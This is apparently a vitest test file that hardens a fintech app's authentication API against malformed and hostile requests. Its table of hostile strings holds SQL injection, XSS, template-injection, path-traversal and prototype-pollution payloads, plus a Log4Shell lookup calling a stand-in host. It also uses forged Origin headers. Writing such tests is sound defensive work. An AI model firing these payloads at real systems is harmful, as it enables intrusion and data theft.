import { labelOf } from '@finboard/contracts';
import { AUTH_MESSAGES } from '@finboard/domain/validation';
import { mailOutbox, sessions } from '@finboard/db';
import { count } from 'drizzle-orm';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  countUsers,
  createTestApp,
  expectError,
  findUserRow,
  followVerificationLink,
  registerVerified,
  registration,
  signUp,
  TEST_ORIGIN,
  type TestApp,
  uniqueEmail,
  VALID_PASSWORD,
} from './test-app';

/**
 * Hostile and malformed input on every auth route: the answer is always a 4xx with the one error
 * shape, or a clean success, never a 500; a refused request stores nothing.
 */

let t: TestApp;
let cookies: string[] = [];
let knownEmail = '';

beforeAll(async () => {
  t = await createTestApp({ AUTH_RATE_LIMIT_MAX: '100000' });
  const user = await signUp(t);
  cookies = user.cookies;
  knownEmail = user.email;
});
afterAll(() => t?.close());

/** Zod's own default wording, which must never reach anyone: messages are sentences naming the field. */
const ZOD_DEFAULT_TEXT = /expected|Invalid input|Unrecognized|Too big|Too small|Invalid (UUID|option|string|email address)/;

type FieldKind = 'string' | 'boolean' | 'object';

interface RouteCase {
  url: string;
  /** A body the route's schema accepts. */
  body(): Record<string, unknown>;
  /** Every top-level field and its JSON type, for the wrong-type checks. */
  fields: Record<string, FieldKind>;
  /** The fields that may not be left out. */
  required: string[];
  /** Every free-text field (dotted for nested ones), for the hostile-string checks. */
  textFields: string[];
  /** A missing field's message where the spec sets one, instead of '<Label> is required'. */
  missingMessages?: Record<string, string>;
}

const ROUTES: RouteCase[] = [
  {
    url: '/api/auth/register',
    body: () => registration({ email: uniqueEmail('hardening'), context: { source: 'web' } }),
    fields: {
      role: 'string',
      firstName: 'string',
      lastName: 'string',
      email: 'string',
      password: 'string',
      confirmPassword: 'string',
      acceptTerms: 'boolean',
      context: 'object',
    },
    required: ['role', 'firstName', 'lastName', 'email', 'password', 'confirmPassword', 'acceptTerms'],
    missingMessages: { role: AUTH_MESSAGES.missingRequireData },
    textFields: [
      'firstName',
      'lastName',
      'email',
      'password',
      'confirmPassword',
      'context.advisor',
      'context.source',
      'context.advisorConnect',
      'context.inviter',
      'context.expiry',
      'context.inviteType',
      'context.productUser',
      'role',
    ],
  },
  {
    url: '/api/auth/login',
    body: () => ({ email: knownEmail, password: 'Wrong12345', rememberMe: true }),
    fields: { email: 'string', password: 'string', rememberMe: 'boolean' },
    required: ['email', 'password'],
    textFields: ['email', 'password'],
  },
  {
    url: '/api/auth/forgot-password',
    body: () => ({ email: uniqueEmail('forgot') }),
    fields: { email: 'string' },
    required: ['email'],
    textFields: ['email'],
  },
  {
    url: '/api/auth/reset-password',
    body: () => ({ oobCode: 'no-such-code', password: 'BrandNew456!', confirmPassword: 'BrandNew456!' }),
    fields: { oobCode: 'string', password: 'string', confirmPassword: 'string' },
    required: ['oobCode', 'password', 'confirmPassword'],
    textFields: ['oobCode', 'password', 'confirmPassword'],
  },
  {
    url: '/api/auth/verify-email',
    body: () => ({ token: 'not-a-token' }),
    fields: { token: 'string' },
    required: ['token'],
    textFields: ['token'],
  },
  {
    url: '/api/auth/change-password',
    body: () => ({ currentPassword: 'NotTheRight1', password: 'BrandNew456!', confirmPassword: 'BrandNew456!' }),
    fields: { currentPassword: 'string', password: 'string', confirmPassword: 'string' },
    required: ['currentPassword', 'password', 'confirmPassword'],
    textFields: ['currentPassword', 'password', 'confirmPassword'],
  },
  {
    url: '/api/auth/set-password',
    body: () => ({ password: 'BrandNew456!', confirmPassword: 'BrandNew456!' }),
    fields: { password: 'string', confirmPassword: 'string' },
    required: ['password', 'confirmPassword'],
    textFields: ['password', 'confirmPassword'],
  },
  {
    url: '/api/auth/social/sign-in',
    body: () => ({ provider: 'google', role: 'client' }),
    fields: { provider: 'string', role: 'string' },
    required: ['provider'],
    textFields: ['provider', 'role'],
  },
  {
    url: '/api/me/role',
    body: () => ({ role: 'advisor' }),
    fields: { role: 'string' },
    required: ['role'],
    // Spec 01 §5: 'Registration and role saving need uid and role ('missing require data')'.
    missingMessages: { role: AUTH_MESSAGES.missingRequireData },
    textFields: ['role'],
  },
  {
    url: '/api/auth/resend-verification',
    body: () => ({}),
    fields: {},
    required: [],
    textFields: [],
  },
  // Last: its valid body signs the shared session out.
  {
    url: '/api/auth/logout',
    body: () => ({}),
    fields: {},
    required: [],
    textFields: [],
  },
];

const HOSTILE_STRINGS: Record<string, string> = {
  emoji: '😀🎉 Zoë 👨‍👩‍👧',
  rtl: 'مرحبا بالعالم',
  'rtl override': '\u202Egnp.exe\u202C',
  'combining marks': 'Ame\u0301lie Z̷̢͇̈́a̴l̸g̵o̶',
  'zero width': 'a\u200Bb\u200Dc\uFEFF',
  'sql injection': "' OR 1=1 --",
  'sql drop': "Robert'); DROP TABLE users; --",
  'html script': '<script>alert(1)</script>',
  log4shell: '${jndi:ldap://evil.example/a}',
  template: '{{7*7}}${7*7}<%= 7*7 %>',
  'path traversal': '../../../etc/passwd',
  'null byte inside': 'abc\u0000def',
  'null byte only': '\u0000',
  'escape sequence': '\u001b[31mred',
  'lone surrogate': 'x\uD800y',
  'very long': 'Aa1'.repeat(4000),
  'json-looking': '{"$gt":""}',
};

function setPath(target: Record<string, unknown>, path: string, value: unknown) {
  const keys = path.split('.');
  let node = target;
  for (const key of keys.slice(0, -1)) {
    node[key] = { ...(node[key] ?? {}) };
    node = node[key] as Record<string, unknown>;
  }
  node[keys.at(-1) as string] = value;
}

const post = (url: string, options: Omit<InjectOptions, 'method' | 'url' | 'cookies'> & { cookies?: string[] } = {}) =>
  t.request({ method: 'POST', url, cookies, ...options });

async function counts() {
  const [mail] = await t.database.db.select({ n: count() }).from(mailOutbox);
  const [session] = await t.database.db.select({ n: count() }).from(sessions);
  return { users: await countUsers(t.database), mail: Number(mail?.n), sessions: Number(session?.n) };
}

/** Runs a request that must be refused, and checks that nothing was stored. */
async function expectRefused(send: () => ReturnType<typeof post>, status: number, code: string) {
  const before = await counts();
  const error = expectError(await send(), status, code);
  expect(await counts()).toEqual(before);
  return error;
}

describe.each(ROUTES)('$url', (route) => {
  it('the valid body is well-formed (sanity: not refused by the schema)', async () => {
    const response = await post(route.url, { payload: route.body() });
    expect(response.statusCode).toBeLessThan(500);
    if (response.statusCode >= 400) expect(response.json().error.message).not.toMatch(ZOD_DEFAULT_TEXT);
  });

  it('malformed JSON → 400 with a clear message', async () => {
    for (const payload of ['{"email":', "{'single': 'quotes'}", '{"a":1,}', 'undefined', '[', '{"a": NaN}']) {
      const error = await expectRefused(() => post(route.url, { payload, headers: { 'content-type': 'application/json' } }), 400, 'VALIDATION');
      expect(error.message).toBe('The request body is not valid JSON.');
    }
  });

  it('an empty JSON body → 400', async () => {
    const error = await expectRefused(() => post(route.url, { payload: '', headers: { 'content-type': 'application/json' } }), 400, 'VALIDATION');
    expect(error.message).toMatch(/empty|not valid/i);
  });

  it.each([
    ['a JSON array', '[]'],
    ['a JSON string', '"hello"'],
    ['JSON null', 'null'],
    ['a JSON number', '42'],
  ])('%s instead of an object → 400', async (_label, payload) => {
    await expectRefused(() => post(route.url, { payload, headers: { 'content-type': 'application/json' } }), 400, 'VALIDATION');
  });

  it('prototype pollution keys → 400, and no object is polluted', async () => {
    const withMember = (member: string) => JSON.stringify({ ...route.body(), member: 0 }).replace('"member":0', member);
    for (const payload of [withMember('"__proto__":{"polluted":true}'), withMember('"constructor":{"prototype":{"polluted":true}}')]) {
      expect(() => JSON.parse(payload)).not.toThrow();
      await expectRefused(() => post(route.url, { payload, headers: { 'content-type': 'application/json' } }), 400, 'VALIDATION');
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('deeply nested JSON → 400, not a crash', async () => {
    // Just under the body limit: 100 000 nested arrays, 40 000 nested objects ending in a null character.
    for (const nested of [`${'['.repeat(100_000)}${']'.repeat(100_000)}`, `${'{"a":'.repeat(40_000)}"\u0000"${'}'.repeat(40_000)}`]) {
      expect(nested.length).toBeLessThan(250 * 1024);
      const payload = JSON.stringify({ ...route.body(), nested: '__NESTED__' }).replace('"__NESTED__"', nested);
      const started = Date.now();
      await expectRefused(() => post(route.url, { payload, headers: { 'content-type': 'application/json' } }), 400, 'VALIDATION');
      expect(Date.now() - started).toBeLessThan(2000);
    }
  });

  // Routes without a body of their own (logout, resend) have no fields to get wrong.
  const itWithFields = Object.keys(route.fields).length > 0 ? it : () => undefined;
  const itWithRequired = route.required.length > 0 ? it : () => undefined;

  itWithFields('wrong types → 400 naming the field', async () => {
    for (const [field, kind] of Object.entries(route.fields)) {
      const wrongValues = kind === 'string' ? [12345, true, null, ['x'], { x: 1 }] : kind === 'boolean' ? ['true', 1, null, {}] : ['text', 7, ['x']];
      for (const value of wrongValues) {
        const body = route.body();
        body[field] = value;
        const error = await expectRefused(() => post(route.url, { payload: body }), 400, 'VALIDATION');
        expect(error.field, `${field}=${JSON.stringify(value)}`).toBe(field);
        expect(error.message.startsWith(`${labelOf(field)} `), error.message).toBe(true);
        expect(error.message).not.toMatch(ZOD_DEFAULT_TEXT);
      }
    }
  });

  itWithRequired('a missing required field → 400 naming it', async () => {
    for (const field of route.required) {
      const body = route.body();
      delete body[field];
      const error = await expectRefused(() => post(route.url, { payload: body }), 400, 'VALIDATION');
      expect(error.field).toBe(field);
      expect(error.message).toBe(route.missingMessages?.[field] ?? `${labelOf(field)} is required`);
    }
  });

  it('unknown fields → 400', async () => {
    for (const extra of [{ isAdmin: true }, { admin: 1 }, { emailVerified: true }, { userId: 'someone-else' }, { role2: 'admin' }]) {
      const error = await expectRefused(() => post(route.url, { payload: { ...route.body(), ...extra } }), 400, 'VALIDATION');
      expect(error.message).toBe(`Unknown field ${Object.keys(extra)[0] ?? ''}`);
    }
  });

  it('an oversized body (> 256 KiB) → 413', async () => {
    const body = { ...route.body(), [Object.keys(route.fields)[0] ?? 'padding']: 'x'.repeat(300 * 1024) };
    const error = await expectRefused(
      () => post(route.url, { payload: JSON.stringify(body), headers: { 'content-type': 'application/json' } }),
      413,
      'PAYLOAD_TOO_LARGE',
    );
    expect(error.message).toBe('The request is too large.');
  });

  it.each([
    'text/plain',
    'text/plain;charset=UTF-8',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=----x',
    'application/xml',
    'application/jsonp',
    'application/json-patch+json',
  ])('content type %s → 415', async (contentType) => {
    const payload = contentType.includes('urlencoded') ? 'email=a%40b.co&password=x' : JSON.stringify(route.body());
    const error = await expectRefused(() => post(route.url, { payload, headers: { 'content-type': contentType } }), 415, 'UNSUPPORTED_MEDIA_TYPE');
    expect(error.message).toMatch(/JSON/);
  });

  it('a body without a content type → 4xx, nothing stored', async () => {
    const before = await counts();
    const response = await t.app.inject({
      method: 'POST',
      url: route.url,
      payload: Buffer.from(JSON.stringify(route.body())),
      headers: { origin: TEST_ORIGIN, cookie: cookies.join('; ') },
    });
    expect(response.statusCode).toBeGreaterThanOrEqual(400);
    expect(response.statusCode).toBeLessThan(500);
    expectError(response, response.statusCode);
    expect(await counts()).toEqual(before);
  });

  it('application/json with a charset is accepted like plain application/json', async () => {
    const response = await post(route.url, { payload: JSON.stringify(route.body()), headers: { 'content-type': 'application/json; charset=utf-8' } });
    expect(response.statusCode).not.toBe(415);
    expect(response.statusCode).toBeLessThan(500);
  });

  it.each([
    ['missing', undefined],
    ['foreign', 'https://evil.example'],
    ['look-alike', 'http://localhost:3000.evil.example'],
    ['other port', 'http://localhost:3001'],
    ['other scheme', 'https://localhost:3000'],
    ['null', 'null'],
  ])('%s Origin → 403', async (_label, origin) => {
    const headers: Record<string, string> = { cookie: cookies.join('; '), referer: `${TEST_ORIGIN}/login` };
    if (origin) headers.origin = origin;
    const error = await expectRefused(() => t.app.inject({ method: 'POST', url: route.url, payload: route.body(), headers }), 403, 'FORBIDDEN');
    expect(error.message).toBe('This request must come from the Finboard web app.');
  });

  const describeWithText = route.textFields.length > 0 ? describe : () => undefined;
  describeWithText('hostile strings in every text field', () => {
    it.each(route.textFields)('%s', async (field) => {
      for (const [label, value] of Object.entries(HOSTILE_STRINGS)) {
        const body = route.body();
        setPath(body, field, value);
        const before = await counts();
        const response = await post(route.url, { payload: body });
        const what = `${field} = ${label}: ${response.statusCode} ${response.body.slice(0, 200)}`;
        expect(response.statusCode, what).toBeLessThan(500);
        if (response.statusCode >= 400) {
          expectError(response, response.statusCode);
          expect(await counts(), what).toEqual(before);
          continue;
        }
        // A clean success: what was stored is what was sent (trimmed like every text field).
        if (route.url === '/api/auth/register') {
          expect(await countUsers(t.database), what).toBe(before.users + 1);
          const row = await findUserRow(t.database, String(body.email));
          if (field === 'firstName' || field === 'lastName') expect(row?.[field], what).toBe(value.trim());
          // A link's fields are kept only when the link proved them (registration-context.service.ts): none of these does.
          if (field.startsWith('context.')) expect(row, what).not.toBeNull();
        }
      }
    });
  });
});

describe('unicode round-trips', () => {
  it('names in any script are stored and answered exactly', async () => {
    for (const [firstName, lastName] of [
      ['Zoë 😀', 'Ñúñez-Ōtsuka'],
      ['محمد', 'עברית'],
      ['Ame\u0301lie', '李小龍'],
      ['<b>Bold</b>', "O'Brien"],
    ]) {
      const email = uniqueEmail('unicode');
      const { user } = await registerVerified(t, registration({ email, firstName, lastName }));
      expect(user).toMatchObject({ firstName, lastName });
      expect(await findUserRow(t.database, email)).toMatchObject({ firstName, lastName, name: `${firstName} ${lastName}` });
    }
  });

  it('a password with unicode, quotes and injection text works and is not trimmed', async () => {
    for (const password of ['Pässwörd1! 😀', "Aa1!' OR 1=1 --", 'Aa1!<script>x</script>', '  Spaced Pass1!  ']) {
      const email = uniqueEmail('unipass');
      await registerVerified(t, registration({ email, password, confirmPassword: password }));
      const ok = await post('/api/auth/login', { payload: { email, password }, cookies: [] });
      expect(ok.statusCode, `${password}: ${ok.body}`).toBe(200);
      const trimmed = await post('/api/auth/login', { payload: { email, password: password.trim() === password ? `${password} ` : password.trim() } });
      expectError(trimmed, 401, 'UNAUTHENTICATED');
    }
  });

  it('a password with a null byte is refused or works, but never errors', async () => {
    const password = 'Secret123!\u0000tail';
    const email = uniqueEmail('nullpass');
    const created = await post('/api/auth/register', { payload: registration({ email, password, confirmPassword: password }) });
    expect(created.statusCode, created.body).toBeLessThan(500);
    if (created.statusCode === 202) {
      await followVerificationLink(t, email);
      expect((await post('/api/auth/login', { payload: { email, password } })).statusCode).toBe(200);
      // The part before the null byte is not enough.
      expectError(await post('/api/auth/login', { payload: { email, password: 'Secret123!' } }), 401);
    }
  });

  it('the login of the known user still works after all of the above', async () => {
    const response = await post('/api/auth/login', { payload: { email: knownEmail, password: VALID_PASSWORD } });
    expect(response.statusCode, response.body).toBe(200);
  });
});
